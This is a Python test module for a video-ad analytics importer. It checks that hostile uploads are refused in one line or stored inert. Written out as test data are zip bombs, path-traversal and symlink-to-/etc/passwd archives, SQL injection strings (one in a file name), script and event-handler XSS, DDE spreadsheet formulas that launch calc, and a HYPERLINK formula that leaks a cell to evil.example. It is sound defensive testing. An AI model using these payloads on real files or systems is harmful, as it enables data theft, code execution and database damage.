"""Hand-made hostile files through the command line and the upload path: a clear message, never a crash or half an import.

Every file goes through `python -m vmdash import` (in-process `cli.main`, and a
real process for a few) and through `preview` / `import_files` with an `Upload`
(what the Upload page calls). A refusal must be one line naming the file and
leave every table exactly as it was (`store_checks.fingerprint`); an acceptance must
load the whole import and nothing else, and its undo must restore the data.
Text that is legitimately importable (SQL, HTML or a formula in a title) must
be stored verbatim and stay inert. The generated inputs are in
test_fuzz_readers.py and test_hostile_sheets.py and share this harness and its totals
(tests/support/hostile.py), printed at the end of each module (`pytest -s`): inputs
tried, crashes, partial imports.
"""

from __future__ import annotations

import random
import stat
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.support.hostile import TOTALS, Harness, check, cli_import
from vmdash import demo
from vmdash.errors import ImportRejected
from vmdash.ingest import Upload, import_files, preview, undo

# Left out of the fast loop: each hostile file goes through the command line and the upload path.
pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "data" / "samples"
CANONICAL = "date,platform,video_title,campaign,impressions,views,plays_p25,plays_p50,clicks,spend\n"
GOOD_ROW = "2026-01-05,youtube,Hostile test,Hostile campaign,1000,400,300,200,12,9.5\n"


def _good(n: int) -> str:
    """n distinct good rows: identical rows are refused as an export pasted twice."""
    return "".join(GOOD_ROW.replace("Hostile test", f"Hostile test {i}") for i in range(n))


@pytest.fixture(scope="module")
def harness(tmp_path_factory) -> Harness:
    path = tmp_path_factory.mktemp("hostile") / "vmdash.duckdb"
    h = Harness(path)
    demo.load_samples(h.store)
    yield h
    h.store.close()
    print(f"\nhostile inputs so far: {TOTALS}")
    assert TOTALS["crashes"] == 0 and TOTALS["partial"] == 0, TOTALS


# -- the hand-made files --------------------------------------------------------------------------


def _zip(path: Path, members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as z:
        for member, data in members.items():
            z.writestr(member, data)
    return path


def _patched(path: Path, patch: Callable[[bytearray], None]) -> Path:
    data = bytearray(path.read_bytes())
    patch(data)
    path.write_bytes(bytes(data))
    return path


def _central(data: bytearray) -> int:
    return data.find(b"PK\x01\x02")


def _forge_size(data: bytearray) -> None:
    # Declare 100 bytes in both headers for a member that expands to 23 kB.
    data[22:26] = struct.pack("<I", 100)
    data[_central(data) + 24 : _central(data) + 28] = struct.pack("<I", 100)


def _encrypt_flag(data: bytearray) -> None:
    data[6] |= 1
    data[_central(data) + 8] |= 1


def _method_99(data: bytearray) -> None:
    data[8:10] = struct.pack("<H", 99)
    data[_central(data) + 10 : _central(data) + 12] = struct.pack("<H", 99)


def _symlink_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        info = zipfile.ZipInfo("table.csv")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(info, "/etc/passwd")
    return path


def _xlsx_like(path: Path, sheet: bytes) -> Path:
    return _zip(path, {"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": sheet})


def _sparse(path: Path, size: int, head: bytes) -> Path:
    with path.open("wb") as fh:
        fh.write(head)
        fh.truncate(size)  # sparse: nothing written to disk
    return path


TIKTOK = (SAMPLES / "tiktok_ads.csv").read_bytes()
RANDOM = random.Random(20261125)

SQL = "'); DROP TABLE facts; --"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _csv(text: str, encoding: str = "utf-8") -> Callable[[Path], Path]:
    return lambda p: (p.write_bytes(text.encode(encoding)), p)[1]


def _bytes(data: bytes) -> Callable[[Path], Path]:
    return lambda p: (p.write_bytes(data), p)[1]


# name -> (builder, expected outcome)
REFUSED: dict[str, Callable[[Path], Path]] = {
    "empty.csv": _bytes(b""),
    "bom_only.csv": _bytes(b"\xef\xbb\xbf"),
    "blank_lines.csv": _bytes(b"\n\n\r\n   \n\t\n"),
    "header_only.csv": _csv(CANONICAL),
    "tiktok_header_only.csv": _bytes(TIKTOK.split(b"\n", 1)[0] + b"\n"),
    "random_binary.csv": _bytes(bytes(RANDOM.getrandbits(8) for _ in range(20_000))),
    "png_named_csv.csv": _bytes(b"\x89PNG\r\n\x1a\n" + bytes(RANDOM.getrandbits(8) for _ in range(3000))),
    "pdf_named_csv.csv": _bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" * 50),
    "nul_in_title.csv": _csv(CANONICAL + GOOD_ROW.replace("Hostile test", "Hostile\x00test")),
    "utf16_broken.csv": _bytes(b"\xff\xfe" + CANONICAL.encode("utf-16-le") + b"\x00\xd8\x41\x00"),
    "not_utf8_nor_cp1252.csv": _bytes(CANONICAL.encode() + b"2026-01-05,youtube,\x81\x8d\x8f\x90\x9d,C,1,1,1,1,1,1\n"),
    # Cut mid-line and mid-character: DuckDB 1.5 fails on it with an internal error that
    # invalidates the database instance for the whole process, so it is refused before.
    "cut_mid_character.csv": _bytes(
        b"\n".join((SAMPLES / "google_ads_video.csv").read_bytes().split(b"\n")[:6])[:-30] + b"\xf1"
    ),
    "rows_with_other_delimiter.csv": _csv(CANONICAL + GOOD_ROW.replace(",", ";") * 20),
    "mixed_delimiters_header.csv": _csv("date;platform,impressions\tviews|spend\n2026-01-01;youtube,5\t3|1\n"),
    "unterminated_quote.csv": _csv(CANONICAL + GOOD_ROW.replace("Hostile test", '"Hostile test') * 3),
    "only_quotes.csv": _bytes(b'"' * 5000),
    "carriage_returns_only.csv": _csv((CANONICAL + GOOD_ROW).replace("\n", "\r")),
    "ten_thousand_columns.csv": _csv(",".join(f"c{i}" for i in range(10_000)) + "\n" + ",".join("1" * 10_000) + "\n"),
    "canonical_then_ten_thousand_columns.csv": _csv(
        CANONICAL.strip() + "," + ",".join(f"x{i}" for i in range(10_000)) + "\n" + GOOD_ROW
    ),
    "three_megabyte_number.csv": _csv("date,platform,impressions\n2026-01-01,youtube," + "9" * 3_000_000 + "\n"),
    "sql_in_headers.csv": _csv(f'"x{SQL}",{SQL},"{SQL}"""\n1,2,3\n'),
    "html_in_headers.csv": _csv(f"{SCRIPT},{IMG},<b>views</b>\n1,2,3\n"),
    "formula_headers.csv": _csv('=1+1,@SUM(A1),+cmd|" /C calc"!A0\n1,2,3\n'),
    "impossible_date_31_02.csv": _csv(CANONICAL + GOOD_ROW.replace("2026-01-05", "31/02/2026")),
    "count_of_ten_to_the_thirty.csv": _csv(CANONICAL + GOOD_ROW.replace("1000", "1" + "0" * 30)),
    "count_of_1e308.csv": _csv(CANONICAL + GOOD_ROW.replace("1000", "1e308")),
    "count_of_infinity.csv": _csv(CANONICAL + GOOD_ROW.replace("1000", "inf")),
    "zip_bomb.zip": lambda p: _zip(p, {"table.csv": b"date,platform,impressions\n" + b"0" * 60_000_000}),
    "zip_traversal_up.zip": lambda p: _zip(p, {"../escape.csv": TIKTOK}),
    "zip_traversal_absolute.zip": lambda p: _zip(p, {"/tmp/escape.csv": TIKTOK}),
    "zip_traversal_nested.zip": lambda p: _zip(p, {"a/../../escape.csv": TIKTOK}),
    "zip_traversal_windows.zip": lambda p: _zip(p, {"C:\\Windows\\escape.csv": TIKTOK}),
    "zip_traversal_backslash.zip": lambda p: _zip(p, {"..\\escape.csv": TIKTOK}),
    "zip_symlink.zip": _symlink_zip,
    "zip_forged_size.zip": lambda p: _patched(_zip(p, {"table.csv": TIKTOK}), _forge_size),
    "zip_bad_checksum.zip": lambda p: _patched(
        _zip(p, {"t.csv": TIKTOK}, zipfile.ZIP_STORED), lambda d: d.__setitem__(200, d[200] ^ 1)
    ),
    "zip_broken_deflate.zip": lambda p: _patched(
        _zip(p, {"t.csv": TIKTOK}), lambda d: d.__setitem__(200, d[200] ^ 0xFF)
    ),
    "zip_password.zip": lambda p: _patched(_zip(p, {"t.csv": TIKTOK}, zipfile.ZIP_STORED), _encrypt_flag),
    "zip_unknown_method.zip": lambda p: _patched(_zip(p, {"t.csv": TIKTOK}, zipfile.ZIP_STORED), _method_99),
    "zip_cut_in_half.zip": lambda p: _bytes(_zip(p, {"t.csv": TIKTOK}).read_bytes()[:3000])(p),
    "zip_many_members.zip": lambda p: _zip(p, {f"t{i}.csv": b"a,b\n1,2\n" for i in range(250)}),
    "zip_no_table.zip": lambda p: _zip(p, {"readme.md": b"# hello", "inner.zip": b"PK\x05\x06" + b"\0" * 18}),
    "zip_empty.zip": lambda p: _zip(p, {}),
    "fake_workbook.xlsx": _bytes(b"PK\x03\x04" + b"\x00" * 200),
    "broken_workbook.xlsx": lambda p: _xlsx_like(p, b"<worksheet><<<"),
    "workbook_bomb.xlsx": lambda p: _xlsx_like(p, b" " * 200_000_000),
    "old_excel_garbage.xls": _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000),
    "over_the_size_cap.csv": lambda p: _sparse(p, 1600 * 1024 * 1024, CANONICAL.encode()),
}

ACCEPTED: dict[str, Callable[[Path], Path]] = {
    # A bad byte past the encoding sample: that one line is rejected with its reason.
    "invalid_utf8_past_sample.csv": _bytes(
        (CANONICAL + _good(5000)).encode() + GOOD_ROW.replace("test", "t\xe9st").encode("latin-1")
    ),
    # Rows with an unknown platform are rejected one by one; the others load.
    "mostly_unreadable_rows.csv": _csv(CANONICAL + _good(5) + GOOD_ROW.replace("youtube", "myspace") * 30),
    "negative_counts.csv": _csv(CANONICAL + "2026-01-05,youtube,Neg,C,-1000,-400,-3,-2,-12,-9.5\n"),
    "quartiles_increase.csv": _csv(CANONICAL + "2026-01-05,youtube,Up,C,1000,400,10,300,12,9.5\n"),
    "one_bad_row_among_many.csv": _csv(CANONICAL + _good(40) + GOOD_ROW.replace("2026-01-05", "31/02/2026")),
    "french_excel_resave.csv": _bytes(
        "\ufeffdate;platform;video_title;impressions;spend\n05/01/2026;youtube;Éclat;1\u202f234;45,2\n".encode()
    ),
    "utf16_with_bom.csv": _bytes(b"\xff\xfe" + (CANONICAL + GOOD_ROW).encode("utf-16-le")),
    "windows_1252.csv": _bytes((CANONICAL + GOOD_ROW.replace("Hostile", "Hostilé")).encode("cp1252")),
    "crlf_and_padding.csv": _csv((CANONICAL + GOOD_ROW.replace(",1000,", ",  1000 ,")).replace("\n", "\r\n")),
    "one_megabyte_title.csv": _csv(CANONICAL + GOOD_ROW.replace("Hostile test", "x" * 1_048_576)),
    "bidi_and_zero_width_title.csv": _csv(CANONICAL + GOOD_ROW.replace("Hostile test", "\u202eevil\u200b\ufeff")),
    "sql'); DROP TABLE facts; --.csv": _csv(CANONICAL + GOOD_ROW),
    "zip_with_a_good_table.zip": lambda p: _zip(p, {"folder/table.csv": TIKTOK, "__MACOSX/._t.csv": b"\0\0"}),
}


def _case(tmp_path: Path, name: str, builder: Callable[[Path], Path]) -> Path:
    return builder(tmp_path / name)


# Seconds each, not milliseconds: still run in CI, in the slow step.
HEAVY = {"ten_thousand_columns.csv", "canonical_then_ten_thousand_columns.csv", "workbook_bomb.xlsx"}


@pytest.mark.parametrize(
    "name", [pytest.param(n, marks=pytest.mark.slow) if n in HEAVY else n for n in sorted(REFUSED)]
)
def test_hostile_files_are_refused_with_one_line_and_nothing_written(harness, tmp_path, name):
    path = _case(tmp_path, name, REFUSED[name])
    check(harness, path, expect="refused")
    assert not (tmp_path.parent / "escape.csv").exists() and not Path("/tmp/escape.csv").exists()


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_odd_but_readable_files_load_whole(harness, tmp_path, name):
    check(harness, _case(tmp_path, name, ACCEPTED[name]), expect="accepted")


def test_out_of_range_dates_never_crash_an_import(harness, tmp_path):
    # Whether such a row loads is a question of validation (see the app test); here: no crash,
    # no half import, through both paths.
    for date in ("0001-01-01", "9999-12-31", "0000-01-01", "99999-01-01", "2026-13-45", "1899-12-30"):
        path = tmp_path / f"date_{date}.csv"
        path.write_text(CANONICAL + GOOD_ROW.replace("2026-01-05", date), encoding="utf-8")
        check(harness, path)


# -- what an accepted hostile text becomes ---------------------------------------------------------

HOSTILE_TEXTS = [SQL, SCRIPT, IMG, "[click me](javascript:alert(1))", FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=["sql", "script", "img", "mdlink", "hyperlink", "dde", "minus"])
def test_hostile_titles_are_stored_verbatim_and_inert(harness, tmp_path, text):
    quoted = '"' + text.replace('"', '""') + '"'
    path = tmp_path / "titles.csv"
    path.write_text(
        CANONICAL + f"2026-01-06,youtube,{quoted},{quoted},1000,400,300,200,12,9.5\n",
        encoding="utf-8",
    )
    tables = set(harness.fingerprint())
    assert check(harness, path, expect="accepted") == "accepted"
    # Loaded once more, kept, and read back exactly: a title is a value, never SQL.
    reports = import_files(harness.store, [Upload(path, path.name)])
    rows = harness.store.rows(
        "SELECT video_title, campaign FROM facts WHERE import_id = $id", {"id": reports[0].import_id}
    )
    try:
        assert rows == [(text, text)]
        assert set(harness.fingerprint()) == tables
        assert harness.store.scalar("SELECT count(*) FROM facts") > 1
    finally:
        undo(harness.store, reports[0].import_id)


def test_impossible_numbers_are_flagged_in_the_preview_not_fixed(harness, tmp_path):
    path = tmp_path / "impossible.csv"
    path.write_text(
        CANONICAL + "2026-01-05,tiktok,Odd,C,100,500,10,80,900,-3\n2026-01-06,tiktok,Odd,C,-5,-5,-5,-5,-5,1\n",
        encoding="utf-8",
    )
    report, frames = preview(harness.store, Upload(path, path.name))
    flagged = {f.check: f.rows for part in report.parts for f in part.flags}
    assert flagged == {
        "quartile plays increase (25 % ≥ 50 % ≥ 75 % ≥ 95 % ≥ 100 % expected)": (1,),
        "more views than impressions": (1,),
        "more clicks than impressions": (1,),
        "negative spend": (1,),
        "a negative count": (2,),
    }
    assert frames[0]["impressions"].tolist() == [100, -5]  # kept as exported


def test_one_absurd_count_rejects_its_row_not_the_file(harness, tmp_path):
    path = tmp_path / "absurd.csv"
    path.write_text(CANONICAL + _good(30) + GOOD_ROW.replace("1000", "1" + "0" * 30), encoding="utf-8")
    report, _ = preview(harness.store, Upload(path, path.name))
    assert report.rows_rejected == 1
    assert "impressions" in report.parts[0].rejections[0].reason


@pytest.mark.parametrize("value", ["nan", "inf", "-Infinity"])
def test_nan_and_infinity_are_not_numbers(harness, tmp_path, value):
    path = tmp_path / "nan.csv"
    path.write_text(CANONICAL + _good(30) + GOOD_ROW.replace("9.5", value), encoding="utf-8")
    report, _ = preview(harness.store, Upload(path, path.name))
    assert report.rows_rejected == 1


def test_the_two_paths_say_the_same_thing(harness, tmp_path):
    path = _case(tmp_path, "zip_traversal_up.zip", REFUSED["zip_traversal_up.zip"])
    _, said = cli_import(harness.path, path)
    with pytest.raises(ImportRejected) as refused:
        import_files(harness.store, [Upload(path, path.name)])
    assert said.strip() == f"error: {refused.value}"
    assert "'../escape.csv' points outside the archive" in said


# -- real processes -------------------------------------------------------------------------------

PROCESS_CASES = ["zip_bomb.zip", "zip_traversal_up.zip", "random_binary.csv", "sql_in_headers.csv", "header_only.csv"]


def _process_import(db: Path, path: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "vmdash", "import", str(path), "--db", str(db)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.slow
def test_real_processes_refuse_with_one_line(harness, tmp_path):
    before = harness.fingerprint()
    harness.store.close()  # another process cannot open a file this one holds
    for name in PROCESS_CASES:
        TOTALS["inputs"] += 1
        done = _process_import(harness.path, _case(tmp_path, name, REFUSED[name]))
        assert done.returncode == 1, done
        assert "Traceback" not in done.stderr, done.stderr
        assert done.stderr.count("\n") == 1 and done.stderr.startswith(f"error: {name}: "), done.stderr
        assert done.stdout == ""
        TOTALS["refused"] += 1
    assert harness.fingerprint() == before


def test_a_two_gigabyte_upload_is_refused_before_parsing(harness, tmp_path):
    huge = _sparse(tmp_path / "huge.csv", 2 * 1024**3, CANONICAL.encode())
    assert huge.stat().st_blocks * 512 < 10 * 1024**2  # really sparse: nothing was written
    check(harness, huge, expect="refused")
    before = harness.fingerprint()
    harness.store.close()
    TOTALS["inputs"] += 1
    done = _process_import(harness.path, huge)
    assert done.returncode == 1
    assert (
        done.stderr.strip()
        == "error: huge.csv: the file is 2,048 MB, over the 1,536 MB limit; split the export by date range"
    )
    TOTALS["refused"] += 1
    assert harness.fingerprint() == before
